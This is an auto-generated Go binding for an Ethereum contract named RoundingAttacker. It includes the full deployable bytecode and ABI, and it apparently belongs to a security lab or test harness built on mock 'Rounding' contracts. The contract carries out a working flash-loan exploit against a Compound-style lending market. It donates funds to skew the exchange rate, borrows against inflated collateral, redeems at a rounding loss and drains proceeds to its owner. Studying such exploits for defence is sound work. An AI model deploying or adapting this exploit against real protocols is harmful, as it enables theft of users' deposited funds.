// Code generated via abigen V2 - DO NOT EDIT.
// This file is a generated binding and any manual changes will be lost.

package roundingattacker

import (
	"bytes"
	"errors"
	"math/big"

	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/accounts/abi/bind/v2"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/types"
)

// Reference imports to suppress errors if they are not otherwise used.
var (
	_ = bytes.Equal
	_ = errors.New
	_ = big.NewInt
	_ = common.Big1
	_ = types.BloomLookup
	_ = abi.ConvertType
)

// RoundingAttackerMetaData contains all meta data concerning the RoundingAttacker contract.
var RoundingAttackerMetaData = bind.MetaData{
	ABI: "[{\"inputs\":[{\"internalType\":\"contractRoundingComptroller\",\"name\":\"comptroller_\",\"type\":\"address\"},{\"internalType\":\"contractRoundingMarket\",\"name\":\"ethMarket_\",\"type\":\"address\"},{\"internalType\":\"contractRoundingMarket\",\"name\":\"usdMarket_\",\"type\":\"address\"}],\"stateMutability\":\"nonpayable\",\"type\":\"constructor\"},{\"inputs\":[],\"name\":\"EtherTransferFailed\",\"type\":\"error\"},{\"inputs\":[{\"internalType\":\"address\",\"name\":\"caller\",\"type\":\"address\"}],\"name\":\"NotOwner\",\"type\":\"error\"},{\"inputs\":[{\"internalType\":\"address\",\"name\":\"caller\",\"type\":\"address\"},{\"internalType\":\"address\",\"name\":\"initiator\",\"type\":\"address\"}],\"name\":\"UntrustedLender\",\"type\":\"error\"},{\"anonymous\":false,\"inputs\":[{\"indexed\":false,\"internalType\":\"uint256\",\"name\":\"donation\",\"type\":\"uint256\"},{\"indexed\":false,\"internalType\":\"uint256\",\"name\":\"borrowed\",\"type\":\"uint256\"}],\"name\":\"Drained\",\"type\":\"event\"},{\"inputs\":[{\"internalType\":\"uint256\",\"name\":\"donation\",\"type\":\"uint256\"},{\"internalType\":\"uint256\",\"name\":\"borrowAmount\",\"type\":\"uint256\"}],\"name\":\"attack\",\"outputs\":[],\"stateMutability\":\"payable\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"comptroller\",\"outputs\":[{\"internalType\":\"contractRoundingComptroller\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"ethMarket\",\"outputs\":[{\"internalType\":\"contractRoundingMarket\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"inputs\":[{\"internalType\":\"address\",\"name\":\"initiator\",\"type\":\"address\"},{\"internalType\":\"address\",\"name\":\"\",\"type\":\"address\"},{\"internalType\":\"uint256\",\"name\":\"amount\",\"type\":\"uint256\"},{\"internalType\":\"uint256\",\"name\":\"fee\",\"type\":\"uint256\"},{\"internalType\":\"bytes\",\"name\":\"data\",\"type\":\"bytes\"}],\"name\":\"onFlashLoan\",\"outputs\":[{\"internalType\":\"bytes32\",\"name\":\"\",\"type\":\"bytes32\"}],\"stateMutability\":\"nonpayable\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"owner\",\"outputs\":[{\"internalType\":\"address\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"usdMarket\",\"outputs\":[{\"internalType\":\"contractRoundingMarket\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"inputs\":[],\"name\":\"weth\",\"outputs\":[{\"internalType\":\"contractRoundingWETH10\",\"name\":\"\",\"type\":\"address\"}],\"stateMutability\":\"view\",\"type\":\"function\"},{\"stateMutability\":\"payable\",\"type\":\"receive\"}]",
	ID:  "RoundingAttacker",
	Bin: "0x610120604052348015610010575f5ffd5b5060405161120038038061120083398101604081905261002f916100d9565b336080526001600160a01b0383811660a05282811660c081905290821660e05260408051636f307dc360e01b81529051636f307dc3916004808201926020929091908290030181865afa158015610088573d5f5f3e3d5ffd5b505050506040513d601f19601f820116820180604052508101906100ac9190610123565b6001600160a01b03166101005250610145915050565b6001600160a01b03811681146100d6575f5ffd5b50565b5f5f5f606084860312156100eb575f5ffd5b83516100f6816100c2565b6020850151909350610107816100c2565b6040850151909250610118816100c2565b809150509250925092565b5f60208284031215610133575f5ffd5b815161013e816100c2565b9392505050565b60805160a05160c05160e05161010051610fde6102225f395f818161013d015281816101e6015281816102b1015281816104c40152818161078b015281816107ba015281816108ce0152818161093e0152818161096e01528181610bbc0152610c4b01525f818161010a015281816106220152610a2701525f818160bf015281816102750152818161033b015281816103ad01528181610495015281816105540152818161068501526106b601525f818161017001526105aa01525f81816101a30152818161088c01528181610ace0152610cad0152610fde5ff3fe608060405260043610610071575f3560e01c80633fc8cef31161004c5780633fc8cef31461012c5780635fe3b5671461015f5780638da5cb5b14610192578063e1fa7638146101c5575f5ffd5b806323e30c8b1461007c5780633c692fd5146100ae5780633ca2f7cf146100f9575f5ffd5b3661007857005b5f5ffd5b348015610087575f5ffd5b5061009b610096366004610d92565b6101da565b6040519081526020015b60405180910390f35b3480156100b9575f5ffd5b506100e17f000000000000000000000000000000000000000000000000000000000000000081565b6040516001600160a01b0390911681526020016100a5565b348015610104575f5ffd5b506100e17f000000000000000000000000000000000000000000000000000000000000000081565b348015610137575f5ffd5b506100e17f000000000000000000000000000000000000000000000000000000000000000081565b34801561016a575f5ffd5b506100e17f000000000000000000000000000000000000000000000000000000000000000081565b34801561019d575f5ffd5b506100e17f000000000000000000000000000000000000000000000000000000000000000081565b6101d86101d3366004610e37565b610881565b005b5f336001600160a01b037f00000000000000000000000000000000000000000000000000000000000000001614158061021c57506001600160a01b0387163014155b1561025057604051638c7e0a5d60e01b81523360048201526001600160a01b03881660248201526044015b60405180910390fd5b5f8061025e84860186610e37565b60405163095ea7b360e01b81526001600160a01b037f000000000000000000000000000000000000000000000000000000000000000081166004830152670de0b6b3a764000060248301529294509092507f00000000000000000000000000000000000000000000000000000000000000009091169063095ea7b3906044016020604051808303815f875af11580156102f9573d5f5f3e3d5ffd5b505050506040513d601f19601f8201168201806040525081019061031d9190610e57565b5060405163140e25ad60e31b8152670de0b6b3a764000060048201527f00000000000000000000000000000000000000000000000000000000000000006001600160a01b03169063a0712d68906024015f604051808303815f87803b158015610384575f5ffd5b505af1158015610396573d5f5f3e3d5ffd5b50506040516370a0823160e01b81523060048201527f00000000000000000000000000000000000000000000000000000000000000006001600160a01b0316925063db006a75915060029083906370a0823190602401602060405180830381865afa158015610407573d5f5f3e3d5ffd5b505050506040513d601f19601f8201168201806040525081019061042b9190610e7d565b6104359190610ea8565b6040518263ffffffff1660e01b815260040161045391815260200190565b5f604051808303815f87803b15801561046a575f5ffd5b505af115801561047c573d5f5f3e3d5ffd5b505060405163a9059cbb60e01b81526001600160a01b037f000000000000000000000000000000000000000000000000000000000000000081166004830152602482018690527f000000000000000000000000000000000000000000000000000000000000000016925063a9059cbb91506044016020604051808303815f875af115801561050c573d5f5f3e3d5ffd5b505050506040513d601f19601f820116820180604052508101906105309190610e57565b506040805160018082528183019092525f91602080830190803683370190505090507f0000000000000000000000000000000000000000000000000000000000000000815f8151811061058557610585610ec1565b6001600160a01b039283166020918202929092010152604051631853304760e31b81527f00000000000000000000000000000000000000000000000000000000000000009091169063c2998238906105e1908490600401610ed5565b5f604051808303815f87803b1580156105f8575f5ffd5b505af115801561060a573d5f5f3e3d5ffd5b505060405163317afabb60e21b8152600481018590527f00000000000000000000000000000000000000000000000000000000000000006001600160a01b0316925063c5ebeaec91506024015f604051808303815f87803b15801561066d575f5ffd5b505af115801561067f573d5f5f3e3d5ffd5b505050507f00000000000000000000000000000000000000000000000000000000000000006001600160a01b031663852a12e360017f00000000000000000000000000000000000000000000000000000000000000006001600160a01b0316633b1d21a26040518163ffffffff1660e01b8152600401602060405180830381865afa158015610710573d5f5f3e3d5ffd5b505050506040513d601f19601f820116820180604052508101906107349190610e7d565b61073e9190610ea8565b6040518263ffffffff1660e01b815260040161075c91815260200190565b5f604051808303815f87803b158015610773575f5ffd5b505af1158015610785573d5f5f3e3d5ffd5b505050507f00000000000000000000000000000000000000000000000000000000000000006001600160a01b031663095ea7b37f0000000000000000000000000000000000000000000000000000000000000000898b6107e59190610f20565b6040516001600160e01b031960e085901b1681526001600160a01b03909216600483015260248201526044016020604051808303815f875af115801561082d573d5f5f3e3d5ffd5b505050506040513d601f19601f820116820180604052508101906108519190610e57565b507f439148f0bbc682ca079e46d6e2c2f0c1e3b820f1a291b069d8882abf8cf18dd99a9950505050505050505050565b336001600160a01b037f000000000000000000000000000000000000000000000000000000000000000016146108cc5760405163245aecd360e01b8152336004820152602401610247565b7f00000000000000000000000000000000000000000000000000000000000000006001600160a01b031663d0e30db0346040518263ffffffff1660e01b81526004015f604051808303818588803b158015610925575f5ffd5b505af1158015610937573d5f5f3e3d5ffd5b50505050507f00000000000000000000000000000000000000000000000000000000000000006001600160a01b0316635cffe9de307f0000000000000000000000000000000000000000000000000000000000000000670de0b6b3a7640000866109a19190610f20565b60408051602081018990529081018790526060016040516020818303038152906040526040518563ffffffff1660e01b81526004016109e39493929190610f33565b6020604051808303815f875af11580156109ff573d5f5f3e3d5ffd5b505050506040513d601f19601f82011682018060405250810190610a239190610e57565b505f7f00000000000000000000000000000000000000000000000000000000000000006001600160a01b0316636f307dc36040518163ffffffff1660e01b8152600401602060405180830381865afa158015610a81573d5f5f3e3d5ffd5b505050506040513d601f19601f82011682018060405250810190610aa59190610f8d565b6040516370a0823160e01b81523060048201529091506001600160a01b0382169063a9059cbb907f00000000000000000000000000000000000000000000000000000000000000009083906370a0823190602401602060405180830381865afa158015610b14573d5f5f3e3d5ffd5b505050506040513d601f19601f82011682018060405250810190610b389190610e7d565b6040516001600160e01b031960e085901b1681526001600160a01b03909216600483015260248201526044016020604051808303815f875af1158015610b80573d5f5f3e3d5ffd5b505050506040513d601f19601f82011682018060405250810190610ba49190610e57565b506040516370a0823160e01b81523060048201525f907f00000000000000000000000000000000000000000000000000000000000000006001600160a01b0316906370a0823190602401602060405180830381865afa158015610c09573d5f5f3e3d5ffd5b505050506040513d601f19601f82011682018060405250810190610c2d9190610e7d565b90508015610d3c57604051632e1a7d4d60e01b8152600481018290527f00000000000000000000000000000000000000000000000000000000000000006001600160a01b031690632e1a7d4d906024015f604051808303815f87803b158015610c94575f5ffd5b505af1158015610ca6573d5f5f3e3d5ffd5b505050505f7f00000000000000000000000000000000000000000000000000000000000000006001600160a01b0316826040515f6040518083038185875af1925050503d805f8114610d13576040519150601f19603f3d011682016040523d82523d5f602084013e610d18565b606091505b5050905080610d3a57604051630ce8f45160e31b815260040160405180910390fd5b505b60408051858152602081018590527f66fc978fb134f2829da92c53c7d927e1c025601f4dac9d24a86bf228008afbfb910160405180910390a150505050565b6001600160a01b0381168114610d8f575f5ffd5b50565b5f5f5f5f5f5f60a08789031215610da7575f5ffd5b8635610db281610d7b565b95506020870135610dc281610d7b565b94506040870135935060608701359250608087013567ffffffffffffffff811115610deb575f5ffd5b8701601f81018913610dfb575f5ffd5b803567ffffffffffffffff811115610e11575f5ffd5b896020828401011115610e22575f5ffd5b60208201935080925050509295509295509295565b5f5f60408385031215610e48575f5ffd5b50508035926020909101359150565b5f60208284031215610e67575f5ffd5b81518015158114610e76575f5ffd5b9392505050565b5f60208284031215610e8d575f5ffd5b5051919050565b634e487b7160e01b5f52601160045260245ffd5b81810381811115610ebb57610ebb610e94565b92915050565b634e487b7160e01b5f52603260045260245ffd5b602080825282518282018190525f918401906040840190835b81811015610f155783516001600160a01b0316835260209384019390920191600101610eee565b509095945050505050565b80820180821115610ebb57610ebb610e94565b60018060a01b038516815260018060a01b0384166020820152826040820152608060608201525f8251806080840152806020850160a085015e5f60a0828501015260a0601f19601f83011684010191505095945050505050565b5f60208284031215610f9d575f5ffd5b8151610e7681610d7b56fea2646970667358221220c8838085c214cbeda39677d5bd3448cde7bae4731767ac2ad5fdac05468e20dd64736f6c634300081e0033",
}

// RoundingAttacker is an auto generated Go binding around an Ethereum contract.
type RoundingAttacker struct {
	abi abi.ABI
}

// GetABI returns the ABI associated with this contract binding.
func (c *RoundingAttacker) GetABI() abi.ABI {
	return c.abi
}

// NewRoundingAttacker creates a new instance of RoundingAttacker.
func NewRoundingAttacker() *RoundingAttacker {
	parsed, err := RoundingAttackerMetaData.ParseABI()
	if err != nil {
		panic(errors.New("invalid ABI: " + err.Error()))
	}
	return &RoundingAttacker{abi: *parsed}
}

// Instance creates a wrapper for a deployed contract instance at the given address.
// Use this to create the instance object passed to abigen v2 library functions Call, Transact, etc.
func (c *RoundingAttacker) Instance(backend bind.ContractBackend, addr common.Address) *bind.BoundContract {
	return bind.NewBoundContract(addr, c.abi, backend, backend, backend)
}

// PackConstructor is the Go binding used to pack the parameters required for
// contract deployment.
//
// Solidity: constructor(address comptroller_, address ethMarket_, address usdMarket_) returns()
func (roundingAttacker *RoundingAttacker) PackConstructor(comptroller_ common.Address, ethMarket_ common.Address, usdMarket_ common.Address) []byte {
	enc, err := roundingAttacker.abi.Pack("", comptroller_, ethMarket_, usdMarket_)
	if err != nil {
		panic(err)
	}
	return enc
}

// PackAttack is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xe1fa7638.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function attack(uint256 donation, uint256 borrowAmount) payable returns()
func (roundingAttacker *RoundingAttacker) PackAttack(donation *big.Int, borrowAmount *big.Int) []byte {
	enc, err := roundingAttacker.abi.Pack("attack", donation, borrowAmount)
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackAttack is the Go binding used to pack the parameters required for calling
// the contract method with ID 0xe1fa7638.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function attack(uint256 donation, uint256 borrowAmount) payable returns()
func (roundingAttacker *RoundingAttacker) TryPackAttack(donation *big.Int, borrowAmount *big.Int) ([]byte, error) {
	return roundingAttacker.abi.Pack("attack", donation, borrowAmount)
}

// PackComptroller is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x5fe3b567.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function comptroller() view returns(address)
func (roundingAttacker *RoundingAttacker) PackComptroller() []byte {
	enc, err := roundingAttacker.abi.Pack("comptroller")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackComptroller is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x5fe3b567.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function comptroller() view returns(address)
func (roundingAttacker *RoundingAttacker) TryPackComptroller() ([]byte, error) {
	return roundingAttacker.abi.Pack("comptroller")
}

// UnpackComptroller is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0x5fe3b567.
//
// Solidity: function comptroller() view returns(address)
func (roundingAttacker *RoundingAttacker) UnpackComptroller(data []byte) (common.Address, error) {
	out, err := roundingAttacker.abi.Unpack("comptroller", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// PackEthMarket is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x3c692fd5.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function ethMarket() view returns(address)
func (roundingAttacker *RoundingAttacker) PackEthMarket() []byte {
	enc, err := roundingAttacker.abi.Pack("ethMarket")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackEthMarket is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x3c692fd5.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function ethMarket() view returns(address)
func (roundingAttacker *RoundingAttacker) TryPackEthMarket() ([]byte, error) {
	return roundingAttacker.abi.Pack("ethMarket")
}

// UnpackEthMarket is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0x3c692fd5.
//
// Solidity: function ethMarket() view returns(address)
func (roundingAttacker *RoundingAttacker) UnpackEthMarket(data []byte) (common.Address, error) {
	out, err := roundingAttacker.abi.Unpack("ethMarket", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// PackOnFlashLoan is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x23e30c8b.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function onFlashLoan(address initiator, address , uint256 amount, uint256 fee, bytes data) returns(bytes32)
func (roundingAttacker *RoundingAttacker) PackOnFlashLoan(initiator common.Address, arg1 common.Address, amount *big.Int, fee *big.Int, data []byte) []byte {
	enc, err := roundingAttacker.abi.Pack("onFlashLoan", initiator, arg1, amount, fee, data)
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackOnFlashLoan is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x23e30c8b.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function onFlashLoan(address initiator, address , uint256 amount, uint256 fee, bytes data) returns(bytes32)
func (roundingAttacker *RoundingAttacker) TryPackOnFlashLoan(initiator common.Address, arg1 common.Address, amount *big.Int, fee *big.Int, data []byte) ([]byte, error) {
	return roundingAttacker.abi.Pack("onFlashLoan", initiator, arg1, amount, fee, data)
}

// UnpackOnFlashLoan is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0x23e30c8b.
//
// Solidity: function onFlashLoan(address initiator, address , uint256 amount, uint256 fee, bytes data) returns(bytes32)
func (roundingAttacker *RoundingAttacker) UnpackOnFlashLoan(data []byte) ([32]byte, error) {
	out, err := roundingAttacker.abi.Unpack("onFlashLoan", data)
	if err != nil {
		return *new([32]byte), err
	}
	out0 := *abi.ConvertType(out[0], new([32]byte)).(*[32]byte)
	return out0, nil
}

// PackOwner is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x8da5cb5b.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function owner() view returns(address)
func (roundingAttacker *RoundingAttacker) PackOwner() []byte {
	enc, err := roundingAttacker.abi.Pack("owner")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackOwner is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x8da5cb5b.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function owner() view returns(address)
func (roundingAttacker *RoundingAttacker) TryPackOwner() ([]byte, error) {
	return roundingAttacker.abi.Pack("owner")
}

// UnpackOwner is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0x8da5cb5b.
//
// Solidity: function owner() view returns(address)
func (roundingAttacker *RoundingAttacker) UnpackOwner(data []byte) (common.Address, error) {
	out, err := roundingAttacker.abi.Unpack("owner", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// PackUsdMarket is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x3ca2f7cf.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function usdMarket() view returns(address)
func (roundingAttacker *RoundingAttacker) PackUsdMarket() []byte {
	enc, err := roundingAttacker.abi.Pack("usdMarket")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackUsdMarket is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x3ca2f7cf.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function usdMarket() view returns(address)
func (roundingAttacker *RoundingAttacker) TryPackUsdMarket() ([]byte, error) {
	return roundingAttacker.abi.Pack("usdMarket")
}

// UnpackUsdMarket is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0x3ca2f7cf.
//
// Solidity: function usdMarket() view returns(address)
func (roundingAttacker *RoundingAttacker) UnpackUsdMarket(data []byte) (common.Address, error) {
	out, err := roundingAttacker.abi.Unpack("usdMarket", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// PackWeth is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x3fc8cef3.  This method will panic if any
// invalid/nil inputs are passed.
//
// Solidity: function weth() view returns(address)
func (roundingAttacker *RoundingAttacker) PackWeth() []byte {
	enc, err := roundingAttacker.abi.Pack("weth")
	if err != nil {
		panic(err)
	}
	return enc
}

// TryPackWeth is the Go binding used to pack the parameters required for calling
// the contract method with ID 0x3fc8cef3.  This method will return an error
// if any inputs are invalid/nil.
//
// Solidity: function weth() view returns(address)
func (roundingAttacker *RoundingAttacker) TryPackWeth() ([]byte, error) {
	return roundingAttacker.abi.Pack("weth")
}

// UnpackWeth is the Go binding that unpacks the parameters returned
// from invoking the contract method with ID 0x3fc8cef3.
//
// Solidity: function weth() view returns(address)
func (roundingAttacker *RoundingAttacker) UnpackWeth(data []byte) (common.Address, error) {
	out, err := roundingAttacker.abi.Unpack("weth", data)
	if err != nil {
		return *new(common.Address), err
	}
	out0 := *abi.ConvertType(out[0], new(common.Address)).(*common.Address)
	return out0, nil
}

// RoundingAttackerDrained represents a Drained event raised by the RoundingAttacker contract.
type RoundingAttackerDrained struct {
	Donation *big.Int
	Borrowed *big.Int
	Raw      *types.Log // Blockchain specific contextual infos
}

const RoundingAttackerDrainedEventName = "Drained"

// ContractEventName returns the user-defined event name.
func (RoundingAttackerDrained) ContractEventName() string {
	return RoundingAttackerDrainedEventName
}

// UnpackDrainedEvent is the Go binding that unpacks the event data emitted
// by contract.
//
// Solidity: event Drained(uint256 donation, uint256 borrowed)
func (roundingAttacker *RoundingAttacker) UnpackDrainedEvent(log *types.Log) (*RoundingAttackerDrained, error) {
	event := "Drained"
	if len(log.Topics) == 0 {
		return nil, bind.ErrNoEventSignature
	}
	if log.Topics[0] != roundingAttacker.abi.Events[event].ID {
		return nil, bind.ErrEventSignatureMismatch
	}
	out := new(RoundingAttackerDrained)
	if len(log.Data) > 0 {
		if err := roundingAttacker.abi.UnpackIntoInterface(out, event, log.Data); err != nil {
			return nil, err
		}
	}
	var indexed abi.Arguments
	for _, arg := range roundingAttacker.abi.Events[event].Inputs {
		if arg.Indexed {
			indexed = append(indexed, arg)
		}
	}
	if err := abi.ParseTopics(out, indexed, log.Topics[1:]); err != nil {
		return nil, err
	}
	out.Raw = log
	return out, nil
}

// UnpackError attempts to decode the provided error data using user-defined
// error definitions.
func (roundingAttacker *RoundingAttacker) UnpackError(raw []byte) (any, error) {
	if bytes.Equal(raw[:4], roundingAttacker.abi.Errors["EtherTransferFailed"].ID.Bytes()[:4]) {
		return roundingAttacker.UnpackEtherTransferFailedError(raw[4:])
	}
	if bytes.Equal(raw[:4], roundingAttacker.abi.Errors["NotOwner"].ID.Bytes()[:4]) {
		return roundingAttacker.UnpackNotOwnerError(raw[4:])
	}
	if bytes.Equal(raw[:4], roundingAttacker.abi.Errors["UntrustedLender"].ID.Bytes()[:4]) {
		return roundingAttacker.UnpackUntrustedLenderError(raw[4:])
	}
	return nil, errors.New("Unknown error")
}

// RoundingAttackerEtherTransferFailed represents a EtherTransferFailed error raised by the RoundingAttacker contract.
type RoundingAttackerEtherTransferFailed struct {
}

// ErrorID returns the hash of canonical representation of the error's signature.
//
// Solidity: error EtherTransferFailed()
func RoundingAttackerEtherTransferFailedErrorID() common.Hash {
	return common.HexToHash("0x6747a28882ab1fee136907293dd07ab109b9cdc40802358384917b05b5eae790")
}

// UnpackEtherTransferFailedError is the Go binding used to decode the provided
// error data into the corresponding Go error struct.
//
// Solidity: error EtherTransferFailed()
func (roundingAttacker *RoundingAttacker) UnpackEtherTransferFailedError(raw []byte) (*RoundingAttackerEtherTransferFailed, error) {
	out := new(RoundingAttackerEtherTransferFailed)
	if err := roundingAttacker.abi.UnpackIntoInterface(out, "EtherTransferFailed", raw); err != nil {
		return nil, err
	}
	return out, nil
}

// RoundingAttackerNotOwner represents a NotOwner error raised by the RoundingAttacker contract.
type RoundingAttackerNotOwner struct {
	Caller common.Address
}

// ErrorID returns the hash of canonical representation of the error's signature.
//
// Solidity: error NotOwner(address caller)
func RoundingAttackerNotOwnerErrorID() common.Hash {
	return common.HexToHash("0x245aecd3fabbd17d6c3c92dc7f0ab916ea8cbf6fc1862c8b56893090ac3fff4c")
}

// UnpackNotOwnerError is the Go binding used to decode the provided
// error data into the corresponding Go error struct.
//
// Solidity: error NotOwner(address caller)
func (roundingAttacker *RoundingAttacker) UnpackNotOwnerError(raw []byte) (*RoundingAttackerNotOwner, error) {
	out := new(RoundingAttackerNotOwner)
	if err := roundingAttacker.abi.UnpackIntoInterface(out, "NotOwner", raw); err != nil {
		return nil, err
	}
	return out, nil
}

// RoundingAttackerUntrustedLender represents a UntrustedLender error raised by the RoundingAttacker contract.
type RoundingAttackerUntrustedLender struct {
	Caller    common.Address
	Initiator common.Address
}

// ErrorID returns the hash of canonical representation of the error's signature.
//
// Solidity: error UntrustedLender(address caller, address initiator)
func RoundingAttackerUntrustedLenderErrorID() common.Hash {
	return common.HexToHash("0x8c7e0a5d9ce430f343a15d06cfbe08b7ab095820c9b6d7947c4e2c140991035e")
}

// UnpackUntrustedLenderError is the Go binding used to decode the provided
// error data into the corresponding Go error struct.
//
// Solidity: error UntrustedLender(address caller, address initiator)
func (roundingAttacker *RoundingAttacker) UnpackUntrustedLenderError(raw []byte) (*RoundingAttackerUntrustedLender, error) {
	out := new(RoundingAttackerUntrustedLender)
	if err := roundingAttacker.abi.UnpackIntoInterface(out, "UntrustedLender", raw); err != nil {
		return nil, err
	}
	return out, nil
}
